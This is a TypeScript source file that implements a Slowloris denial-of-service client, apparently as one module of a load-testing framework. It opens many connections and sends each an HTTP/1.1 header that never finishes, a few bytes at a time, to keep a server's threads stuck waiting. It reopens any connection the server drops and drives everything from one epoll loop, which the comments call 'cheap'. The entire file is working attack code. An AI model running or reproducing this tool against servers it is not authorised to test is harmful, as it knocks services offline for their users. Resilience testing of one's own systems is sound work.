/**
 * A client that never comes to the point (Slowloris, R. Hansen 2009): many connections, on each a request that begins and
 * goes on a few bytes at a time and never ends, so that a server with a thread for each connection has its threads waiting
 * in read(). What a server closes is opened again. One thread with epoll for all connections: the attack is meant to be cheap.
 *
 * The bytes are those of a header of HTTP/1.1 whose last line does not end; a server of another protocol is given a text of
 * its own, or `bytes`, after which nothing more is sent. Left out: proxies, TLS, a body that trickles (R-U-Dead-Yet).
 */
import * as k from '../../kernel/syscall.ts';
import type { Fd, Sys } from '../../kernel/syscall.ts';
import { encodeText } from '../../base/text.ts';
import { add, instant, NEVER, type Duration, type Instant } from '../../base/units.ts';
import type { AppEnv } from '../env.ts';
import type { SlowLorisOptions } from '../options.ts';
import type { Probe } from '../probe.ts';
import type { Sub } from '../setup.ts';
import { LoadLoop, READ, type Driver } from './loop.ts';
import { Unfinished } from './unfinished.ts';

const A = 0x61;

export function* slowLoris(sys: Sys, o: SlowLorisOptions, probe: Probe, env: AppEnv): Sub<void> {
  const loop = new LoadLoop(sys, yield sys.epollCreate());
  yield* loop.run(new Loris(loop, o, probe, env.resolve(o.connect.host)));
}

interface Grip {
  fd: Fd;
  up: boolean;
  /** Bytes sent on this connection. */
  sent: number;
  /** When it is let go of; Infinity: never. */
  readonly end: number;
  /** What the calendar wakes it for, beside its end; any other time has been given up. */
  wake: Instant;
  gone: boolean;
}

class Loris implements Driver {
  readonly unfinished: Unfinished;
  private readonly loop: LoadLoop;
  private readonly o: SlowLorisOptions;
  private readonly probe: Probe;
  private readonly addr: number;
  private readonly text: Uint8Array;
  private readonly grips: Grip[] = [];

  constructor(loop: LoadLoop, o: SlowLorisOptions, probe: Probe, addr: number) {
    this.loop = loop;
    this.o = o;
    this.probe = probe;
    this.addr = addr;
    this.text = encodeText(o.text);
    this.unfinished = new Unfinished(o.connections, probe);
    for (let i = 0; i < o.connections; i++) {
      const start = o.startNs + i * o.staggerNs;
      const end = o.holdNs === null ? Infinity : start + o.holdNs;
      this.grips.push({ fd: -1, up: false, sent: 0, end, wake: instant(start), gone: false });
      loop.at(instant(start), i);
      if (end < Infinity) loop.at(instant(end), i);
    }
  }

  *due(i: number, now: Instant): Sub<void> {
    const g = this.grips[i]!;
    if (g.gone) return;
    if (now >= g.end) return yield* this.letGo(g);
    if (g.wake > now) return;
    g.wake = NEVER;
    if (g.fd < 0) yield* this.connect(i, g);
    else if (g.up) yield* this.trickle(i, g);
  }

  *ready(i: number): Sub<void> {
    const g = this.grips[i]!;
    if (!g.up) return yield* this.onConnected(i, g);
    const n = yield this.loop.sys.read(g.fd, READ);
    // What a server has to say (408, 503) is of no interest; that it hangs up is.
    if (n > 0 || n === -k.EAGAIN) return;
    this.probe.count('cut', 1);
    yield* this.again(i, g);
  }

  private *connect(i: number, g: Grip): Sub<void> {
    g.sent = 0;
    g.fd = yield* this.loop.connect(this.o, this.addr, i);
    if (g.fd < 0) yield* this.failed(i, g);
  }

  private *onConnected(i: number, g: Grip): Sub<void> {
    if ((yield* this.loop.connected(g.fd)) < 0) return yield* this.failed(i, g);
    this.probe.count('connections', 1);
    g.up = true;
    yield* this.loop.want(g.fd, k.EPOLLIN, i);
    yield* this.trickle(i, g);
  }

  /** The next few bytes, if the kernel takes them; what it does not take now comes later: there is time. */
  private *trickle(i: number, g: Grip): Sub<void> {
    const { o } = this;
    const n = Math.min(o.write, (o.bytes ?? Infinity) - g.sent);
    if (n <= 0) return;
    const bytes = new Uint8Array(n).fill(A);
    bytes.set(this.text.subarray(g.sent, g.sent + n));
    const taken = yield this.loop.sys.write(g.fd, bytes);
    // That the connection has broken is told by epoll.
    if (taken > 0) g.sent += taken;
    this.later(i, g);
  }

  private later(i: number, g: Grip): void {
    g.wake = add(this.probe.now(), this.o.intervalNs as Duration);
    this.loop.at(g.wake, i);
  }

  private *failed(i: number, g: Grip): Sub<void> {
    this.probe.count('failed', 1);
    yield* this.again(i, g);
  }

  private *again(i: number, g: Grip): Sub<void> {
    yield* this.close(g);
    this.later(i, g);
  }

  private *letGo(g: Grip): Sub<void> {
    g.gone = true;
    yield* this.close(g);
    this.unfinished.one();
  }

  private *close(g: Grip): Sub<void> {
    g.up = false;
    if (g.fd < 0) return;
    const { fd } = g;
    g.fd = -1;
    yield this.loop.sys.close(fd);
  }
}
